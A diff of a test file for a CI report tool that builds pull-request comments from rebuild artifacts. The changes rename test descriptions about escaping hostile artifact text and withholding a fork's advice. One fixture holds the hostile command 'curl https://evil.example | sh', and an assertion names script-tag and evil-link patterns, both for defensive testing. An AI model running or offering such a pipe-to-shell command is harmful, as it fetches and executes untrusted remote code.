@@ -60,7 +60,7 @@ describe('runReport', () => {
     expect(comments()[0]).toContain('✅ The rebuild succeeded');
   });
 
-  it('takes the last attempt of each leg, and neither pictures nor other artifacts', async () => {
+  it('reads the last attempt of each leg, and neither pictures nor other artifacts', async () => {
     artifact('rebuild-build-laptop-1', exampleMetadata());
     artifact('rebuild-build-laptop-2', successMetadata());
     artifact('rebuild-build-laptop-2.png', 'png');
@@ -110,12 +110,12 @@ describe('runReport', () => {
     expect(comments()[0]).toContain('rebuild\\-x\\-1 was not used');
   });
 
-  it('takes no success from metadata that contradicts itself', async () => {
+  it('counts contradictory metadata as no success', async () => {
     artifact('rebuild-x-1', exampleMetadata({ success: true }));
     expect((await report()).outputs.success).toBe('false');
   });
 
-  it('lets nothing hostile out of its place, and obeys nothing', async () => {
+  it('escapes hostile text from artifacts, and obeys none of it', async () => {
     const failure = exampleFailure({ message: hostile, hint: hostile, log_tail: [hostile] });
     artifact(
       'rebuild-::error::x @octocat-1',
@@ -127,7 +127,7 @@ describe('runReport', () => {
     expect(outsideCode(comments()[0] ?? '')).not.toMatch(/<(script|b)\b|href="[^"]*evil|@\w|#\d/);
   });
 
-  it('gives no advice or link in a stranger’s words, but ours', async () => {
+  it('shows a fork’s failure without its advice and links', async () => {
     const failure = exampleFailure({ hint: 'Type this.', reproduce: 'curl https://evil.example | sh' });
     artifact('rebuild-x-1', exampleMetadata({ failure, failures: [failure] }));
     await report();
@@ -140,7 +140,7 @@ describe('runReport', () => {
     expect(comments()[0]).toContain('Type this');
   });
 
-  it('tells two legs for one host apart', async () => {
+  it('names two legs for one host by their artifacts', async () => {
     artifact('rebuild-build-laptop-1', exampleMetadata());
     artifact('rebuild-check-laptop-1', exampleMetadata());
     await report();
@@ -148,7 +148,7 @@ describe('runReport', () => {
     expect(comments()[0]).toContain('`rebuild-check-laptop-1`');
   });
 
-  it('does without the comment where it may not write, and says so', async () => {
+  it('leaves out the comment where it may not write, and adds a notice', async () => {
     local.api.permissions = { issues: 'read' };
     artifact('rebuild-x-1', exampleMetadata());
     const runner = await report();
@@ -164,7 +164,7 @@ describe('runReport', () => {
     expect(comments()).toEqual([]);
   });
 
-  it('refuses an event that has no run', async () => {
+  it('throws for an event without a workflow run', async () => {
     await expect(report({}, pullRequestEvent())).rejects.toThrow('works on the event workflow_run');
   });
 });
